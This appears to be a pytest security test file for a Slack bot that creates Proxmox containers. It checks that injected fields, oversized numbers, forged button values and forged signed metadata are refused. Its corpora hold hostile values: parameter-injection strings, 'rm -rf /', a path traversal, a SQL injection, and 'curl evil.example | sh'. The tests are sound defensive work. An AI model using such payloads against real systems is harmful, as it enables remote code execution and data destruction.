"""Hostile input through every Slack entry point — the create modal, slash commands, buttons, forged
private_metadata — is refused with a clear message, and none of it reaches Proxmox."""

from __future__ import annotations

import json
from typing import Any

import pytest

from handlers.blocks.ids import ACTION_APPROVE, ACTION_DENY, CALLBACK_CREATE
from handlers.errors import UNEXPECTED_WHAT
from tests.fakes.signing import interactive_body, number, plain, selected, view_submission
from tests.reliability.conftest import APPROVALS, APPROVER, CHANNEL, REQUESTER, Lab
from tests.reliability.procs import BotProcess, create_values, wait_until

INJECT = "web,net1=name=eth1,bridge=vmbr1"

#: (label, modal values replacing the defaults). Custom sizes use preset "custom".
MODAL_CORPUS: list[tuple[str, dict[str, Any]]] = [
    ("hostname injection", {"hostname": {"value": plain(INJECT)}}),
    ("hostname newline", {"hostname": {"value": plain("web\nnet1: bridge=vmbr1")}}),
    ("hostname equals", {"hostname": {"value": plain("web=1")}}),
    ("hostname overlong", {"hostname": {"value": plain("a" * 300)}}),
    ("hostname unicode", {"hostname": {"value": plain("wéb-ünïcode")}}),
    ("hostname rtl override", {"hostname": {"value": plain("web\u202egpj")}}),
    ("hostname control", {"hostname": {"value": plain("web\x00\x07")}}),
    ("hostname leading dash", {"hostname": {"value": plain("-web")}}),
    ("template injection", {"template": {"value": selected("local:vztmpl/x.tar.zst,rootfs=local:999")}}),
    ("template other storage", {"template": {"value": selected("nfs:vztmpl/debian.tar.zst")}}),
    ("preset unknown", {"preset": {"value": selected("gigantic")}}),
    (
        "cores negative",
        {
            "preset": {"value": selected("custom")},
            "cores": {"value": number("-1")},
            "memory_mib": {"value": number("512")},
            "disk_gib": {"value": number("4")},
        },
    ),
    (
        "memory huge",
        {
            "preset": {"value": selected("custom")},
            "cores": {"value": number("1")},
            "memory_mib": {"value": number("99999999999999999999")},
            "disk_gib": {"value": number("4")},
        },
    ),
    (
        "disk zero",
        {
            "preset": {"value": selected("custom")},
            "cores": {"value": number("1")},
            "memory_mib": {"value": number("512")},
            "disk_gib": {"value": number("0")},
        },
    ),
    (
        "swap negative",
        {
            "preset": {"value": selected("custom")},
            "cores": {"value": number("1")},
            "memory_mib": {"value": number("512")},
            "swap_mib": {"value": number("-512")},
            "disk_gib": {"value": number("4")},
        },
    ),
    ("count zero", {"count": {"value": number("0")}}),
    ("count huge", {"count": {"value": number("100000")}}),
    ("count text", {"count": {"value": number("3; rm -rf /")}}),
    (
        "cidr prefix 33",
        {
            "net_mode": {"value": selected("static", "radio_buttons")},
            "ipv4": {"value": plain("10.0.0.5/33")},
            "gateway": {"value": plain("10.0.0.1")},
        },
    ),
    (
        "cidr octet 300",
        {
            "net_mode": {"value": selected("static", "radio_buttons")},
            "ipv4": {"value": plain("300.0.0.5/24")},
            "gateway": {"value": plain("10.0.0.1")},
        },
    ),
    (
        "cidr missing prefix",
        {
            "net_mode": {"value": selected("static", "radio_buttons")},
            "ipv4": {"value": plain("10.0.0.5")},
            "gateway": {"value": plain("10.0.0.1")},
        },
    ),
    (
        "cidr injection",
        {
            "net_mode": {"value": selected("static", "radio_buttons")},
            "ipv4": {"value": plain("10.0.0.5/24,gw=10.0.0.9")},
            "gateway": {"value": plain("10.0.0.1")},
        },
    ),
    (
        "gateway outside subnet",
        {
            "net_mode": {"value": selected("static", "radio_buttons")},
            "ipv4": {"value": plain("10.0.0.5/24")},
            "gateway": {"value": plain("10.9.9.1")},
        },
    ),
    (
        "gateway not an ip",
        {
            "net_mode": {"value": selected("static", "radio_buttons")},
            "ipv4": {"value": plain("10.0.0.5/24")},
            "gateway": {"value": plain("gw.example")},
        },
    ),
    (
        "gateway is the address",
        {
            "net_mode": {"value": selected("static", "radio_buttons")},
            "ipv4": {"value": plain("10.0.0.5/24")},
            "gateway": {"value": plain("10.0.0.5")},
        },
    ),
    ("vlan 0", {"vlan": {"value": number("0")}}),
    ("vlan 4095", {"vlan": {"value": number("4095")}}),
    ("vlan negative", {"vlan": {"value": number("-7")}}),
    ("bridge unknown", {"bridge": {"value": selected("vmbr9")}}),
    ("bridge injection", {"bridge": {"value": selected("vmbr0,firewall=1")}}),
    ("lifetime negative", {"lifetime": {"value": selected("-1d")}}),
    ("lifetime huge", {"lifetime": {"value": selected("99999d")}}),
    ("lifetime junk", {"lifetime": {"value": selected("forever")}}),
    ("ssh key injection", {"ssh_key": {"value": plain("ssh-ed25519 AAAA x\nssh-rsa BBBB evil\n,net1=x")}}),
    ("ssh key not a key", {"ssh_key": {"value": plain("hello; curl evil.example | sh")}}),
]

#: Slash command texts that must be refused.
COMMAND_CORPUS: list[str] = [
    "start abc",
    "start -5",
    "start 99999999999999999999",
    "start 100,101",
    "stop 100 --force",
    "reboot 1e3",
    "destroy 0",
    "destroy 100;101",
    "extend 100 -1d",
    "extend 100 99999d",
    "extend 100 forever",
    "status " + "x" * 5000,
    "status web\x00\x1b[31m",
    "status wéb\u202e",
    "ip 4294967296",
    "audit <@U0OTHER01|x> extra",
    "snapshot 100 bad;name",
    "rollback 100 ../../etc/passwd",
    "resize 100 cores=-1",
    "resize 100 memory=99999999999999999",
    "frobnicate everything",
    "create small,net1=bridge=vmbr1",
    "list everyone",
    "\u0000\u0001\u0002",
]

#: Forged approval button values.
BUTTON_CORPUS: list[str] = [
    "not-a-uuid",
    "' OR 1=1 --",
    "x" * 3000,
    "12345678-1234-1234-1234-1234567890ab,extra",
    "",
]


def _said(body: Any) -> str:
    """Everything an ack body tells the person (modal field errors, a pushed view, a text)."""
    if not isinstance(body, dict):
        return str(body or "")
    if body.get("response_action") == "errors":
        return " ".join(str(v) for v in body.get("errors", {}).values())
    return json.dumps(body, ensure_ascii=False)


async def _told(
    lab: Lab,
    user: str,
    hook: str,
    since_ephemerals: int,
    ack: Any,
    *,
    timeout: float = 10.0,  # noqa: ASYNC109 - bounds a poll
) -> str:
    """What ``user`` was told: the ack, or an answer at ``hook`` / an ephemeral that arrives after."""
    said = _said(ack)
    if said.strip():
        return said

    def later() -> str:
        posts = [json.dumps(p, ensure_ascii=False) for p in lab.slack.hook_posts(hook)]
        whispers = [
            json.dumps(e.get("text", ""), ensure_ascii=False)
            for e in lab.slack.ephemerals[since_ephemerals:]
            if e.get("user") == user
        ]
        return " ".join(posts + whispers)

    return await wait_until(later, timeout=timeout, what=f"an answer at {hook}", explain=lab.explain)


def _assert_clear(label: str, text: str) -> None:
    assert text.strip(), f"{label}: refused without a message"
    assert UNEXPECTED_WHAT not in text, (
        f"{label}: answered with an internal error instead of a reason: {text}"
    )


def _writes(lab: Lab) -> list[Any]:
    return [r for r in lab.sim.request_log if r.method in ("POST", "PUT", "DELETE")]


def _leaked(lab: Lab, needles: list[str]) -> list[str]:
    seen = json.dumps([[r.method, r.path, r.params] for r in lab.sim.request_log], ensure_ascii=False)
    return [n for n in needles if n in seen]


@pytest.fixture
async def bot(lab: Lab) -> BotProcess:
    bot = lab.spawn("bot")
    await bot.wait_ready()
    return bot


async def test_hostile_modal_submissions_are_refused_in_the_modal(lab: Lab, bot: BotProcess) -> None:
    view = await lab.driver.open_create(bot.port, user=REQUESTER)
    accepted, unclear = [], []
    for label, fields in MODAL_CORPUS:
        values = {**create_values(f"ok-{len(label)}", preset="tiny"), **fields}
        status, body = await lab.driver.submit_create(bot.port, view, values, user=REQUESTER)
        assert status == 200, (label, status, body)
        if not isinstance(body, dict) or body.get("response_action") not in ("errors", "push", "update"):
            accepted.append(label)
            continue
        said = _said(body)
        if not said.strip() or UNEXPECTED_WHAT in said:
            unclear.append((label, said))
    assert accepted == [], "accepted hostile input"
    assert unclear == [], "refused without a clear reason"
    assert _writes(lab) == []
    assert _leaked(lab, [INJECT, "evil", "vmbr9", "firewall=1", "gw=10.0.0.9", "a" * 300]) == []
    assert lab.slack.messages(CHANNEL) == []  # no request was recorded, no thread opened


async def test_forged_private_metadata_is_refused(lab: Lab, bot: BotProcess) -> None:
    view = await lab.driver.open_create(bot.port, user=REQUESTER)
    sealed = json.loads(view["private_metadata"])
    forgeries = [
        json.dumps({**sealed, "channel": "C0EVIL000"}),  # another channel, old signature
        json.dumps({"channel": "C0EVIL000"}),  # no signature
        json.dumps({**sealed, "sig": "0" * 32}),  # wrong signature
        "not json at all",
        "",
    ]
    for forged in forgeries:
        payload = view_submission(
            CALLBACK_CREATE,
            create_values("forged"),
            user=REQUESTER,
            view={**view, "private_metadata": forged},
        )
        status, body = await lab.driver.post(bot.port, interactive_body(payload))
        assert status == 200, (forged, status, body)
        assert body != "", f"forged metadata {forged!r} was accepted"
        _assert_clear(f"metadata {forged!r}", _said(body))
    assert _writes(lab) == []
    assert lab.slack.messages(CHANNEL) == []
    assert lab.slack.messages("C0EVIL000") == []


async def test_hostile_slash_commands_are_refused(lab: Lab, bot: BotProcess) -> None:
    for text in COMMAND_CORPUS:
        trigger = lab.driver.next_id("hostile")
        before = len(lab.slack.ephemerals)
        status, body = await lab.driver.command(bot.port, text, user=REQUESTER, trigger=trigger)
        assert status == 200, (text[:60], status)
        told = await _told(lab, REQUESTER, trigger, before, body)
        _assert_clear(repr(text[:60]), told)
    assert _writes(lab) == []
    assert _leaked(lab, ["abc", "100,101", "evil", "../", "x" * 100]) == []


async def test_forged_button_values_change_nothing(lab: Lab, bot: BotProcess) -> None:
    for action in (ACTION_APPROVE, ACTION_DENY):
        for value in BUTTON_CORPUS:
            before = len(lab.slack.ephemerals)
            hook = f"click-{lab.driver._seq + 1}"
            status, body = await lab.driver.click(bot.port, action, value, user=APPROVER, channel=APPROVALS)
            assert status == 200, (action, value[:40], status)
            told = await _told(lab, APPROVER, hook, before, body)
            _assert_clear(f"{action} {value[:40]!r}", told)
    assert _writes(lab) == []
    assert lab.slack.messages(CHANNEL) == []
    assert lab.slack.calls("views.open") == []  # no deny-reason form for a forged approval


async def test_an_unknown_approval_id_is_answered(lab: Lab, bot: BotProcess) -> None:
    before = len(lab.slack.ephemerals)
    hook = f"click-{lab.driver._seq + 1}"
    unknown = "00000000-0000-4000-8000-000000000000"
    status, body = await lab.driver.click(bot.port, ACTION_APPROVE, unknown, user=APPROVER, channel=APPROVALS)
    assert status == 200
    told = await _told(lab, APPROVER, hook, before, body, timeout=3)
    _assert_clear("unknown approval", told)
    assert _writes(lab) == []


async def test_an_unknown_template_is_refused_in_the_modal(lab: Lab, bot: BotProcess) -> None:
    view = await lab.driver.open_create(bot.port, user=REQUESTER)
    unknown = "local:vztmpl/evil-9-standard_9.0-1_amd64.tar.zst"
    values = {**create_values("tmpl"), "template": {"value": selected(unknown)}}
    status, body = await lab.driver.submit_create(bot.port, view, values, user=REQUESTER)
    assert status == 200
    assert isinstance(body, dict), f"accepted ({body!r})"
    _assert_clear("unknown template", _said(body))
    assert _leaked(lab, ["evil-9"]) == []


async def test_an_unknown_node_is_refused_in_the_modal(lab: Lab, bot: BotProcess) -> None:
    view = await lab.driver.open_create(bot.port, user=REQUESTER)
    values = {**create_values("nodey"), "node": {"value": selected("pve9,evil")}}
    status, body = await lab.driver.submit_create(bot.port, view, values, user=REQUESTER)
    assert status == 200
    assert isinstance(body, dict), f"accepted ({body!r})"
    _assert_clear("unknown node", _said(body))
